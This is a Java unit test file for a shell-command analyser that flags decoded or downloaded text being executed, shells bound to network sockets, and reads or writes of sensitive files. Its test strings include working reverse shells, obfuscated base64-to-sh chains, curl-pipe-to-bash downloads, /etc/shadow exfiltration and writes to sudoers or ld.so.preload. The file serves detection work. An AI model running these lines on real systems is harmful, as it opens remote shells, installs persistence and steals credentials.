package dev.tocsin.command;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.LongStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class ShellTextTest {
  private static final CommandPatterns DECODERS =
      CommandPatterns.of(List.of("base64 -d", "xxd -r", "openssl -d"));
  private static final CommandPatterns DOWNLOADERS = CommandPatterns.of(List.of("curl", "wget"));
  private static final CommandPatterns SOCKETS =
      CommandPatterns.of(List.of(ShellText.SOCKET, "nc", "telnet"));

  private static ShellText of(String text) {
    return ShellText.of(text, "/app");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "echo x | base64 -d | sh",
        "{echo,eA==}|{base64,-d}|{bash,-i}",
        "echo${IFS}eA==|base64${IFS}-d|sh",
        "bash <(echo eA== | base64 --decode)",
        "source <(base64 -d <<< eA==)",
        ". <(base64 -d x)",
        "base64 -i -d /tmp/a.txt | sh",
        "echo 6375 | xxd -r -p | bash",
        "openssl enc -d -base64 -in x | sh",
        "eval \"$(base64 -d x)\"",
        "eval `base64 -d x`",
        "sh -c \"$(echo eA== | base64 -d)\"",
        "python3 -c \"$(base64 -d x)\"",
        "$(base64 -d x)",
        "X=$(base64 -d x); eval $X",
        "X=`base64 -d x`; echo \"$X\" | sh",
        "base64 -d x > /tmp/y; sh /tmp/y",
        "base64 -d x >/tmp/y && chmod +x /tmp/y && /tmp/y",
        "base64 -d x | tee /tmp/y; . /tmp/y",
        "base64 -d x | tee >(bash)",
        "bash <<< \"$(base64 -d x)\"",
        "b\"\"ase64 -d x | s''h",
        "b\\ase64 -d x | /b\\in/sh",
        "a=ba; b=se64; $a$b -d x | s$@h",
        "$(echo base64) -d x | sh",
        "ba${x}se64 -d x | sh; base64 -d y | sh",
        "if true; then base64 -d x; fi | sh",
        "while read l; do base64 -d; done < x | sudo -E bash -",
        "(cat x | base64 -d) | gunzip | (cd /; sh)",
        "{ base64 -d x; } | { sh; }",
        "for i in 1 2; do base64 -d $i | sh; done",
        "case $1 in a) base64 -d x | sh ;; esac",
        "sh -c 'base64 -d x | sh'",
        "base64 -d x | sh -c 'bash'",
        "base64 -d x | env -i nohup bash -s",
        "base64 -d x | busybox sh",
        "base64 -d x | python3 -",
        "base64 -d x | perl",
        "bash <<E\nbase64 -d x | sh\nE\n",
        "base64 -d x |& bash",
        "! time base64 -d x | sh",
        "true && base64 -d x | sh &",
      })
  void decodedTextThatIsRunIsFound(String text) {
    assertThat(of(text).runsOutputOf(DECODERS)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "kubectl get secret a -o jsonpath={.data.c} | base64 -d | jq .",
        "cat /tmp/r | base64 -d | base64 -d | gzip -d > /tmp/r.json",
        "echo $CRT | base64 -d | openssl x509 -noout -enddate",
        "base64 --decode /x | grep -c shell",
        "base64 -d x; sh y",
        "base64 -d x && sh y",
        "base64 -d x || sh y",
        "base64 x | sh",
        "echo base64 -d | sh",
        "sh x | base64 -d",
        "base64 -d x | python3 -c 'import sys'",
        "base64 -d x | python3 -m json.tool",
        "base64 -d x | sh -c 'cat > /y'",
        "base64 -d x | sh /scripts/filter.sh",
        "base64 -d x | bash script.sh -s",
        "base64 -d x > /tmp/y; sh /tmp/z",
        "X=$(base64 -d x); curl -H \"A: $X\" http://y",
        "sh run.sh $(base64 -d x)",
        "echo 'base64 -d x | sh'",
        "echo \"base64 -d x | sh\"",
        "# base64 -d x | sh",
        "base64 -d x 2>/dev/null | tee y | wc -l",
        "base64 -d x | xargs rm",
        "base64 -d x | xargs sh -c 'echo \"$@\"' _",
        "cd /tmp; base64 -d x > y; cd /; sh y",
        "(cd /tmp; base64 -d x > y); sh y",
      })
  void decodedTextThatIsNotRunIsQuiet(String text) {
    assertThat(of(text).runsOutputOf(DECODERS)).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -fsSL https://x | sudo -E bash -",
        "wget -qO- http://x/a.gz | gunzip | sh",
        "curl -s http://x/a.py | python3",
        "wget http://x/a.sh -O /tmp/a.sh; sh /tmp/a.sh",
        "wget -q http://x/a.sh && sh a.sh",
        "wget -P /opt http://x/m; chmod +x /opt/m; /opt/m",
        "curl -o/opt/k http://x/k; /opt/k",
        "curl -sO http://x/k.sh?v=1; bash ./k.sh",
        "curl -o ../tmp/z http://x/z; /tmp/z",
        "cd /tmp; curl http://x > y; bash < y",
        "bash -c \"$(curl -fsSL http://x)\"",
        "sh <(curl -s http://x)",
        "busybox wget -O - http://x | sh",
        "curl http://x | xargs -I{} sh -c {}",
        "curl http://x | xargs -0 bash -c",
        "curl http://x | source /dev/stdin",
        ". /dev/stdin <<< \"$(curl http://x)\"",
        "cd /tmp && wget -q http://x/m && chmod +x m && ./m",
        "cd /tmp && wget -q http://x/m; cd /; /tmp/m",
        "cd \"$(mktemp -d)\"; curl -sO http://x/m; ./m",
        "(cd /opt; curl -sO http://x/m); sh /opt/m",
        "curl -o /tmp/m http://x && mv /tmp/m /usr/local/bin/m && m -d",
        "curl -o m.gz http://x; gunzip m.gz; ./m",
        "curl -so /tmp/a http://x; cp /tmp/a /tmp/b; bash /tmp/b",
        "curl http://x | tee /tmp/a | sudo -u app bash -s -- -y",
        "curl http://x > /tmp/a; python3.11 /tmp/a",
        "curl http://x | perl5.36",
        "fetch() { curl http://x; }; curl http://x | ruby",
      })
  void downloadThatIsRunIsFound(String text) {
    assertThat(of(text).runsOutputOf(DOWNLOADERS)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
        "sh -i >&/dev/tcp/1.2.3.4/9 <&1",
        "bash -i &> /dev/tcp/1.2.3.4/9 <&1",
        "0<&196;exec 196<>/dev/tcp/1.2.3.4/9; sh <&196 >&196 2>&196",
        "exec 5<>/dev/tcp/1.2.3.4/9; cat <&5 | while read line; do $line 2>&5 >&5; done",
        "while read l; do eval $l; done < /dev/tcp/1.2.3.4/99",
        "bash < /dev/tcp/1.2.3.4/9",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 1.2.3.4 9 >/tmp/f",
        "telnet 1.2.3.4 9 | sh | telnet 1.2.3.4 10",
        "nc 1.2.3.4 9 | bash",
        "zmodload zsh/net/tcp && ztcp 1.2.3.4 9 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
        "exec {fd}<>/dev/tcp/1.2.3.4/9; bash -i <&$fd >&$fd",
        "exec {fd}<>/dev/tcp/1.2.3.4/9; bash -i <&${fd} >&${fd}",
        "coproc nc 1.2.3.4 9; bash <&${COPROC[0]} >&${COPROC[1]}",
        "sh -i 5<> /dev/tcp/1.2.3.4/9 0<&5 1>&5 2>&5",
        "bash -c 'exec bash -i &>/dev/tcp/1.2.3.4/9 <&1'",
      })
  void shellTiedToAConnectionIsFound(String text) {
    assertThat(of(text).runsOutputOf(SOCKETS)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "until (echo > /dev/tcp/db/5432) >/dev/null 2>&1; do sleep 1; done",
        "until printf '' 2>>/dev/null >>/dev/tcp/mysql/3306; do sleep 1; done",
        "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/h/80'",
        "while ! nc -z db 5432; do sleep 1; done; exec sh run.sh",
        "echo ruok | nc localhost 2181 | grep imok",
        "exec {fd}<>/dev/tcp/db/5432; exec {fd}>&-; sh run.sh",
        "coproc nc -z db 5432; wait; bash run.sh",
      })
  void waitingForAPortIsQuiet(String text) {
    assertThat(of(text).runsOutputOf(SOCKETS)).isFalse();
  }

  @Test
  void commandsAreListedWithTheirWrappers() {
    assertThat(of("X=1 sudo -E curl -k x | cat; exec nginx").commands())
        .extracting(line -> line.chain().toString())
        .containsExactly("[sudo -E curl -k x, curl -k x]", "[cat]", "[nginx]");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '#',
      quoteCharacter = '`',
      value = {
        "echo x > /etc/ld.so.preload          # /etc/ld.so.preload",
        "echo x >> ../etc/rc.local            # /etc/rc.local",
        "{ echo a; echo b; } > /etc/x         # /etc/x",
        "(cd /; id) &> /y                     # /y",
        "> /var/log/wtmp                      # /var/log/wtmp",
        ": > f                                # /app/f",
        "echo x >| /a                         # /a",
        "`cat <<E > /etc/cron.d/x\nline\nE\n` # /etc/cron.d/x",
        "echo x | sudo tee -a /etc/sudoers    # /etc/sudoers",
        "dd if=/a of=/b bs=1                  # /b",
        "cp -a /a /b/c                        # /b/c",
        "cp -t /b /a/c                        # /b/c",
        "mv /a /b                             # /b",
        "install -m 755 /a /etc/init.d/       # /etc/init.d",
        "ln -sf /a /b                         # /b",
        "sed -i s/a/b/ /etc/ssh/sshd_config   # /etc/ssh/sshd_config",
        "sed -i.bak -e s/a/b/ /c              # /c",
        "curl -o/opt/k http://x/k             # /opt/k",
        "wget -P /opt http://x/m?a            # /opt/m?a",
        "curl -s --output-dir /o -O http://x/m?a # /o/m",
        "lwp-download http://x/a /b           # /b",
        "lwp-download http://x/a              # /app/a",
        "axel -o /b http://x/a                # /b",
        "tftp -g -r a -l /b 203.0.113.7       # /b",
        "ftpget 203.0.113.7 /b a              # /b",
        "touch /a                             # /a",
        "truncate -s 0 /var/log/x             # /var/log/x",
        "perl -pi -e s/a/b/ /a                # /a",
        "ruby -i.bak x.rb /a                  # /a",
        "ed -s /a                             # /a",
        "for d in x y; do tee \"/b/$d\"; done  # /b/y",
      })
  void filesThatAreWrittenAreKnown(String text, String path) {
    assertThat(of(text).commands().stream().flatMap(line -> line.effective().writes().stream()))
        .contains(path);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "cat /a",
        "echo > \"/b\" < /a",
        "sed s/a/b/ /c",
        "echo /a",
        "tee",
        "id 2>/dev/null",
        "curl http://x/k"
      })
  void whatIsReadOrPrintedIsNotWritten(String text) {
    assertThat(of(text).commands().stream().flatMap(line -> line.effective().writes().stream()))
        .doesNotContain("/a", "/c", "/app/k", "/dev/null");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "cat /etc/shadow                               | /etc/shadow",
        "cat ../etc/shadow                             | /etc/shadow",
        "cat < /etc/shadow                             | /etc/shadow",
        "while read l; do echo $l; done < /etc/shadow  | /etc/shadow",
        "dd if=/etc/shadow                             | /etc/shadow",
        "curl -d @/etc/shadow http://x                 | /etc/shadow",
        "curl -F f=@/etc/shadow;type=x http://x        | /etc/shadow",
        "curl --data-binary=@/etc/shadow http://x      | /etc/shadow",
        "curl -T /etc/shadow http://x                  | /etc/shadow",
        "curl file:///etc/shadow                       | /etc/shadow",
        "wget --post-file=/etc/shadow http://x         | /etc/shadow",
        "tar cf - /etc/shadow                          | /etc/shadow",
        "grep -f /etc/shadow x                         | /etc/shadow",
      })
  void filesThatAreReadAreKnown(String text, String path) {
    assertThat(of(text).commands().stream().flatMap(line -> line.effective().reads().stream()))
        .contains(path);
  }

  /** 100 shells that read each other, asked for 20,000 sources: each is looked at once. */
  @Test
  void manySourcesAndCommandsCostTheirSum() {
    List<String> sources = IntStream.range(0, 20_000).mapToObj(n -> "tool" + n + " -x").toList();

    assertThat(of("a | sh" + " | sh".repeat(100)).runsOutputOf(CommandPatterns.of(sources)))
        .isFalse();
    assertThat(of("tool19999 -x" + " | sh".repeat(100)).runsOutputOf(CommandPatterns.of(sources)))
        .isTrue();
  }

  @Test
  void loopIsReadOnceForEachValue() {
    ShellText text = of("for a in 1 2; do for b in 3 4; do id $a$b; done; done | wc; ls");

    assertThat(text.commands().stream().map(line -> line.effective().toString()))
        .containsExactly("id 13", "id 14", "id 23", "id 24", "wc", "ls");
    assertThat(text.isComplete()).isTrue();
  }

  @Test
  void loopsInLoopsAreBounded() {
    ShellText text = of("for a in 1 2 3 4 5 6 7 8 9; do ".repeat(12) + "x=1" + "; done".repeat(12));

    assertThat(text.isComplete()).isFalse();
  }

  @Test
  void textThatIsTooMuchSaysSo() {
    assertThat(of("ls").isComplete()).isTrue();
    assertThat(of("ls;".repeat(1_000)).isComplete()).isFalse();
    assertThat(of("$(".repeat(100) + "ls").isComplete()).isFalse();
    assertThat(of("x".repeat(70_000)).isComplete()).isFalse();
  }

  static LongStream seeds() {
    return LongStream.range(0, 200);
  }

  /** Bash is the judge of what the words of a command are. */
  @Test
  void wordsAreThoseOfBash() throws IOException, InterruptedException {
    List<String> texts = seeds().mapToObj(ShellTextTest::randomWords).toList();
    StringBuilder script = new StringBuilder("set -f\n");
    texts.forEach(
        text ->
            script
                .append("known=value; two='a b'; printf '[%s]' ")
                .append(text)
                .append("; echo; unset known two\n"));
    Process bash =
        new ProcessBuilder("bash", "-c", script.toString()).redirectErrorStream(true).start();
    bash.getOutputStream().close();
    List<String> judged =
        new String(bash.getInputStream().readAllBytes(), StandardCharsets.UTF_8).lines().toList();
    assertThat(bash.waitFor()).isZero();

    List<String> read =
        texts.stream()
            .map(text -> of("known=value; two='a b'; printf " + text).commands().getLast())
            .map(
                line ->
                    line.effective().arguments().isEmpty()
                        ? "[]"
                        : String.join(
                            "",
                            line.effective().arguments().stream().map(a -> "[" + a + "]").toList()))
            .toList();
    assertThat(read).isEqualTo(judged);
  }

  private static String randomWords(long seed) {
    String[] pieces = {
      "a",
      "b-c",
      "/x",
      "'q r'",
      "\"s t\"",
      "\\ ",
      "\\$",
      "$'\\x41'",
      "${known}",
      "\"$two\"",
      "${two}",
      "${none:-d}",
      "{p,q}",
      "{u,v,w}z",
      "''",
      "\"\"",
      "$(echo e)",
      "`echo f`",
      "$@",
      "\"in\\\"q\"",
      " ",
      " ",
      "=",
      "$'\\101'",
      "x{y"
    };
    Random random = new Random(seed);
    StringBuilder text = new StringBuilder("w");
    IntStream.range(0, 1 + random.nextInt(7))
        .forEach(i -> text.append(pieces[random.nextInt(pieces.length)]));
    return text.toString();
  }

  /** Each doubles what a variable has: thirty of them would be gigabytes. */
  @ParameterizedTest
  @ValueSource(strings = {"a=$a$a;", "a=\"${a}${a}\";", "a=${a:-x}${a#x};", "b=$a$a;a=$b$b;"})
  void variablesThatDoubleEndAsIncomplete(String doubling) {
    ShellText read = of("a=curl;$a http://x;" + doubling.repeat(40) + "$a; wget http://y");

    assertThat(read.isComplete()).isFalse();
    assertThat(read.programs()).extracting(Command::name).contains("curl", "wget");
  }

  /** Whatever is typed ends: too much of it as incomplete. */
  @ParameterizedTest
  @MethodSource("seeds")
  void anyTextIsRead(long seed) {
    String[] pieces = {
      "$(", "${", "`", "'", "\"", "{", "}", ",", "(", ")", ";", ";;", "|", "&", "<", ">", "<(",
      ">(", "<<", "<<<", "\n", "if ", "then ", "do ", "done ", "case ", " in ", "esac ", "! ",
      "for ", "$", "\\", "a", " ", "=", "eval ", "sh -c ", "exec ", "time ", "{a,", "$'", "2>&1",
      "x=", "$x", "\0"
    };
    Random random = new Random(seed);
    StringBuilder text = new StringBuilder();
    if (seed % 2 == 0) {
      text.repeat(pieces[(int) (seed / 2) % pieces.length], 20_000);
    } else {
      IntStream.range(0, 3_000).forEach(i -> text.append(pieces[random.nextInt(pieces.length)]));
    }

    ShellText read = of(text.toString());

    assertThat(read.commands()).hasSizeLessThanOrEqualTo(ShellFlow.MOST);
    assertThat(read.runsOutputOf(DECODERS)).isFalse();
  }
}
